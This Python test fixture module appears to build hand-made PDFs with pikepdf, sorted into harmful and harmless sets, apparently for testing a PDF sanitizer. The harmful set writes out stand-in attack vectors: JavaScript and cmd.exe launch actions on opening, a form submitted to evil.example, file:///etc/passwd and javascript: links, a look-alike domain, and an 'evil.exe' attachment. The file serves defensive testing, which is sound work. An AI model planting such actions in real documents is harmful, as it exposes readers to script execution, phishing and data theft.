"""PDFs made by hand, each with one thing that no PDF of a handbook holds."""

import io
import warnings

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def pdf(change=lambda file: None) -> bytes:
    """Return a PDF of one page with a link and a bookmark, after a change."""
    file = pikepdf.new()
    file.add_blank_page()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.URI, URI=String("https://example.org/")),
    )
    file.pages[0].obj.Annots = Array([file.make_indirect(link)])
    with file.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("A chapter", 0))
    change(file)
    written = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)  # a field without a form
        file.save(written)
    return written.getvalue()


def _link(file):
    return file.pages[0].obj.Annots[0]


def _set(key, make):
    def change(file):
        file.Root[key] = make(file)

    return pdf(change)


def _in_link(**values):
    def change(file):
        for key, value in values.items():
            _link(file)[f"/{key}"] = value

    return pdf(change)


def _in_page(key, value):
    def change(file):
        file.pages[0].obj[key] = value

    return pdf(change)


def _in_bookmark(**values):
    def change(file):
        for key, value in values.items():
            file.Root.Outlines.First[f"/{key}"] = value

    return pdf(change)


def _attached(file):
    file.attachments["evil.exe"] = b"MZ"


def _endless(file):
    first = file.Root.Outlines.First
    first.Next = first


SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _action(kind, **values):
    return Dictionary(S=Name(f"/{kind}"), **values)


HARMFUL = {
    "script-on-opening": _set("/OpenAction", lambda file: SCRIPT),
    "program-on-opening": _set("/OpenAction", lambda file: LAUNCH),
    "script-on-closing": _set("/AA", lambda file: Dictionary(WC=SCRIPT)),
    "scripts-by-name": _set("/Names", lambda file: Dictionary(JavaScript=Dictionary(Names=[String("a"), SCRIPT]))),
    "attachment": pdf(_attached),
    "form": _set("/AcroForm", lambda file: Dictionary(Fields=[], XFA=String("<xdp/>"))),
    "collection": _set("/Collection", lambda file: Dictionary()),
    "base-of-addresses": _set("/URI", lambda file: Dictionary(Base=String("https://evil.example/"))),
    "script-of-a-page": _in_page("/AA", Dictionary(O=SCRIPT)),
    "script-of-a-link": _in_link(A=SCRIPT),
    "program-of-a-link": _in_link(A=LAUNCH),
    "form-that-is-sent": _in_link(A=_action("SubmitForm", F=String("https://evil.example/"))),
    "data-that-is-fetched": _in_link(A=_action("ImportData", F=String("x"))),
    "link-to-another-file": _in_link(A=_action("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))),
    "link-to-an-attachment": _in_link(A=_action("GoToE", D=Array([0, Name.Fit]))),
    "link-of-a-script": _in_link(A=_action("URI", URI=String("javascript:alert(1)"))),
    "link-of-a-file": _in_link(A=_action("URI", URI=String("file:///etc/passwd"))),
    "link-without-a-scheme": _in_link(A=_action("URI", URI=String("cmd.exe"))),
    "link-of-a-look-alike": _in_link(A=_action("URI", URI=String("https://xn--80ak6aa92e.com/"))),
    "link-with-more-to-it": _in_link(A=_action("URI", URI=String("https://example.org/"), Next=SCRIPT)),
    "link-with-events": _in_link(AA=Dictionary(E=SCRIPT)),
    "rich-media": _in_link(Subtype=Name.RichMedia),
    "file-on-a-page": _in_link(Subtype=Name.FileAttachment),
    "screen": _in_link(Subtype=Name.Screen),
    "field": _in_link(Subtype=Name.Widget),
    "script-of-a-bookmark": _in_bookmark(A=SCRIPT),
    "bookmarks-without-end": pdf(_endless),
    "bookmarks-of-another-kind": _set("/Outlines", lambda file: Dictionary(First=3)),
    "names-of-another-kind": _set("/Names", lambda file: Array([])),
    "annotations-of-another-kind": _in_page("/Annots", Array([1])),
    "action-of-another-kind": _in_link(A=5),
    "no-pdf": b"<script>",
}
HARMLESS = {
    "layers": _set("/OCProperties", lambda file: Dictionary(OCGs=Array(), D=Dictionary(Order=Array()))),
    "notes-of-an-editor": _set("/PieceInfo", lambda file: Dictionary()),
    "articles": _set("/Threads", lambda file: Array()),
    **{f"a-{kind.lower()}": _in_link(Subtype=Name(f"/{kind}")) for kind in ("Highlight", "Underline", "Text", "Popup")},
    "a-link": pdf(),
    "a-place-on-opening": pdf(lambda file: file.Root.__setitem__("/OpenAction", Array([file.pages[0].obj, Name.Fit]))),
    "mail": _in_link(A=_action("URI", URI=String("mailto:a@example.org"))),
    "a-place-in-the-file": _in_link(A=_action("GoTo", D=String("chapter"))),
}
